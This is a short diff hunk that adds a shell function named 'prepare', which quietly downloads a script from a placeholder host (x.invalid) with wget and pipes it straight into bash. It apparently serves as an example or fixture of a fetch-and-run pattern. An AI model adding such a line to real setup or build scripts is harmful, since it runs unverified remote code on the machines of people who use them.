@@ -1,0 +1,4 @@
+prepare() {
+  local from=https://x.invalid/setup
+  wget -qO- "$from" | bash -s -- --quiet
+}
